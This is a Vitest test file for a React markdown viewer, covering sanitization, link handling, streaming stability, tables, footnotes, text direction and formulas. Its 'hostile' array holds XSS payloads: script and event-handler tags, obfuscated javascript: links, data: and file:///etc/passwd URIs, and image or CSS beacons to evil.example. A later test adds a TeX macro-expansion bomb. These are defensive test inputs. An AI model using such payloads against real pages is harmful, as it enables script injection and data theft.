// @vitest-environment happy-dom
import { cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { Profiler } from 'react';
import { afterEach, beforeAll, expect, test, vi } from 'vitest';
import { loadMarkdownParts, testView } from './view/test-view.tsx';
import { markup } from './proofs/pages.tsx';
import { trickyTexts } from './proofs/tricky-texts.ts';

beforeAll(loadMarkdownParts);
afterEach(cleanup);

const hostile = [
  '<script>alert(1)</script>',
  'a <img src=x onerror=alert(1)> b',
  '<svg onload=alert(1)><circle/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<details open ontoggle=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61;vascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<  javascript:alert(1)>)',
  '[x](java%0ascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](app://main/index.html)',
  '<javascript:alert(1)>',
  '<vbscript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](https://evil.example/?q=secret)',
  '![x](http://evil.example/p.png "t")',
  '[![x](https://evil.example/p.png)](https://a.example)',
  '![x][y]\n\n[y]: https://evil.example/p.png',
  '```"><script>alert(1)</script>\ncode\n```',
  '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/p.png}$',
  '$\\htmlStyle{background:url(https://evil.example)}{x}$ $\\url{javascript:alert(1)}$',
  'a[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <b>x</b>',
  '| <script>x</script> | ![x](https://evil.example/p.png) |\n|---|---|',
];

test.each(hostile)('nothing of %j becomes active', (text) => {
  const { container } = render(testView(text));
  const allowed = 'script,iframe,style,object,embed,form,details,base,meta,link,img,video,audio,source';
  expect([...container.querySelectorAll(allowed)].map((element) => element.outerHTML)).toEqual([]);
  for (const element of container.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/i);
      if (name === 'href') expect(value).toMatch(/^(?:https?|mailto):/);
      if (name === 'src' || name === 'srcset' || name === 'style') expect(value).not.toMatch(/:\/\//);
    }
  }
  for (const link of container.querySelectorAll('a')) expect(link.querySelector('a')).toBeNull();
});

test('markup in the text is shown as it is written', () => {
  const { container } = render(testView('<div onclick="x()">a</div>\n\nb <b>c</b>'));
  expect(container.textContent).toBe('<div onclick="x()">a</div>b <b>c</b>');
});

test('an image in the text is shown, one elsewhere is named with its host and opens by a click', () => {
  const onOpenLink = vi.fn<(url: string) => void>();
  render(
    testView('![in](data:image/png;base64,iVBORw0KGgo=) ![out](https://a.example/p.png)', false, {
      onOpenLink,
    }),
  );
  expect(screen.getByRole('img', { name: 'in' }).getAttribute('src')).toBe(
    'data:image/png;base64,iVBORw0KGgo=',
  );
  const chip = screen.getByRole('link', { name: 'out (a.example)' });
  fireEvent.click(chip);
  expect(onOpenLink.mock.calls).toEqual([['https://a.example/p.png']]);
});

test('links go to the injected opener and nowhere else', () => {
  const onOpenLink = vi.fn<(url: string) => void>();
  render(testView('[a](https://a.example) <me@b.example> www.c.example', false, { onOpenLink }));
  for (const link of screen.getAllByRole('link')) expect(fireEvent.click(link)).toBe(false);
  const middle = new MouseEvent('auxclick', { button: 1, bubbles: true, cancelable: true });
  expect(fireEvent(screen.getByRole('link', { name: 'a' }), middle)).toBe(false);
  expect(onOpenLink.mock.calls.flat()).toEqual([
    'https://a.example/',
    'mailto:me@b.example',
    'http://www.c.example/',
    'https://a.example/',
  ]);
});

test.each(trickyTexts)('streamed and at once look the same: %j', (text) => {
  const { container, rerender } = render(testView('', true));
  for (let end = 0; end <= text.length; end += 7) rerender(testView(text.slice(0, end), true));
  rerender(testView(text, true));
  rerender(testView(text));
  const once = render(testView(text));
  expect(markup(container)).toBe(markup(once.container));
});

test('a text that is no continuation starts anew, and an ended one may grow again', () => {
  const { container, rerender } = render(testView('# One\n\ntext', true));
  rerender(testView('## Two'));
  expect(container.querySelector('h1')).toBeNull();
  expect(screen.getByRole('heading', { level: 2, name: 'Two' })).toBeTruthy();
  rerender(testView('## Two and more', true));
  expect(screen.getByRole('heading', { level: 2, name: 'Two and more' })).toBeTruthy();
});

test('finished blocks stay the same elements and are not rendered again', () => {
  const start = 'First **block**.\n\n- a\n- b\n\n```js\nlet a = 1;\n```\n\n';
  const { container, rerender } = render(testView(`${start}tail`, true));
  const blocks = () =>
    [...container.querySelectorAll('[data-finished] > [data-finished]')].flatMap((section) => [
      ...section.children,
    ]);
  const before = blocks();
  // A block that rendered again would put this text back.
  const probe = before[0]?.querySelector('strong')?.firstChild;
  if (!probe) throw new Error('no probe');
  probe.nodeValue = 'touched';
  for (let end = 1; end < 40; end += 1)
    rerender(testView(`${start}tail${' more\n\ntail'.repeat(end)}`, true));
  rerender(testView(`${start}tail${' more\n\ntail'.repeat(40)}`));
  const after = blocks();
  expect(after.slice(0, 3)).toEqual(before.slice(0, 3));
  expect(probe.nodeValue).toBe('touched');
  expect(after).toHaveLength(3 + 41);
});

test('new handlers reach the links without rendering the blocks', () => {
  const first = vi.fn<(url: string) => void>();
  const second = vi.fn<(url: string) => void>();
  let commits = 0;
  const profiled = (onOpenLink: (url: string) => void) => (
    <Profiler id="view" onRender={() => (commits += 1)}>
      {testView('[a](https://a.example)', false, { onOpenLink })}
    </Profiler>
  );
  const { rerender } = render(profiled(first));
  const link = screen.getByRole('link');
  rerender(profiled(second));
  fireEvent.click(link);
  expect([first.mock.calls.length, second.mock.calls.length, commits]).toEqual([0, 1, 2]);
});

test('tables keep their alignment and scroll inside themselves', () => {
  render(testView('| a | b | c |\n|:-|:-:|-:|\n| 1 | **2** | x<br>y |'));
  const table = within(screen.getByRole('group', { name: 'Table' })).getByRole('table');
  const cells = within(table).getAllByRole('cell');
  expect(
    within(table)
      .getAllByRole('columnheader')
      .map((cell) => cell.textContent),
  ).toEqual(['a', 'b', 'c']);
  expect(cells.map((cell) => cell.dataset['align'])).toEqual(['left', 'center', 'right']);
  expect(cells[2]?.querySelector('br')).toBeTruthy();
});

test('tasks have boxes that say their state and cannot be pressed', () => {
  render(testView('- [x] one\n- [ ] two\n- three'));
  const boxes = screen.getAllByRole<HTMLInputElement>('checkbox');
  expect(boxes.map((box) => box.disabled && [box.getAttribute('aria-label'), box.checked])).toEqual([
    ['Done', true],
    ['To do', false],
  ]);
});

test('lists keep their start, and only loose ones have paragraphs', () => {
  const { container } = render(testView('3. a\n4. b\n\n- c\n\n- d'));
  expect(container.querySelector('ol')?.getAttribute('start')).toBe('3');
  expect(container.querySelectorAll('ol p')).toHaveLength(0);
  expect(container.querySelectorAll('ul p')).toHaveLength(2);
});

test('footnotes stand at the end, and calls and notes lead to each other', () => {
  render(testView('One[^b] and two[^a].\n\n[^a]: Note *A*\n\n[^b]: Note B\n\n[^c]: Unused\n\nEnd.'));
  const notes = within(screen.getByRole('region', { name: 'Footnotes' })).getAllByRole('listitem');
  expect(notes.map((note) => note.textContent)).toEqual(['Note B↩', 'Note A↩']);
  fireEvent.click(screen.getByRole('button', { name: 'Footnote 2' }));
  expect(document.activeElement).toBe(notes[1]);
  fireEvent.click(screen.getByRole('button', { name: 'Back from footnote 2' }));
  expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Footnote 2' }));
});

test('two views with footnotes do not lead into each other', () => {
  render(testView('a[^1]\n\n[^1]: first'));
  render(testView('b[^1]\n\n[^1]: second'));
  const [, second] = screen.getAllByRole('button', { name: 'Footnote 1' });
  if (second) fireEvent.click(second);
  expect(document.activeElement?.textContent).toBe('second↩');
});

test('each block finds its own direction; code and formulas are always left to right', () => {
  const { container } = render(testView('مرحبا `x`\n\n- بند\n\n```js\na\n```\n\n$$\nx\n$$'));
  // A direction of its own would hide the paragraph's text from the list or quote around it.
  expect(container.querySelector('p')?.hasAttribute('dir')).toBe(false);
  expect(container.querySelector('ul')?.dir).toBe('auto');
  expect(container.querySelector('p code')?.getAttribute('dir')).toBe('ltr');
  expect(container.querySelector('pre')?.closest('[dir]')?.getAttribute('dir')).toBe('ltr');
  expect(container.querySelector('.katex-display')?.closest('[dir]')?.getAttribute('dir')).toBe('ltr');
});

test('formulas are typeset with their markup for screen readers, wrong ones show their source', () => {
  const { container } = render(testView('$x^2$ and $\\frac{1}$ and $\\vec{abc}$'));
  expect(container.querySelectorAll('math')).toHaveLength(2);
  expect(screen.getByText('\\frac{1}').tagName).toBe('CODE');
});

test('a formula may define macros, but not such that it grows without bounds', () => {
  const bomb = `\\def\\a{${'x'.repeat(500)}}${'\\a'.repeat(100)}`;
  const { container } = render(testView(`$${bomb}$ and $\\def\\a{x}\\a+\\a$`));
  expect(container.querySelectorAll('math')).toHaveLength(1);
  expect(container.querySelector('p > span')?.textContent).toBe(bomb);
});
